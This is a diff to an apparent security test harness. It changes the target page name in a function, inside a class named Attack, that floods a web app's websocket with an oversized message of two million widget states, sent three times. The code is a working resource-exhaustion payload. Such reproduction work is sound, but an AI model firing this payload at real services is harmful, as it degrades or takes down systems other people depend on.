@@ -41,12 +41,12 @@ class Attack:
 def widget_states(app: SignedApp) -> str:
     """22.9 MB of two million widget states in one message, three times."""
     said = BackMsg()
-    said.rerun_script.page_name = "xu-huong"
+    said.rerun_script.page_name = "kham-pha"
     for number in range(2_000_000):
         said.rerun_script.widget_states.widgets.add(id=f"x{number % 10}").bool_value = True
     message, ran = said.SerializeToString(), 0
     for _ in range(3):
-        tab = Tab(app.url, "xu-huong", cookies=signed(app, "xem"), patience=5)
+        tab = Tab(app.url, "kham-pha", cookies=signed(app, "xem"), patience=5)
         with tab, suppress(ConnectionClosed, TimeoutError):
             tab.socket.send(message)
             while tab._hear().WhichOneof("type") != "script_finished":
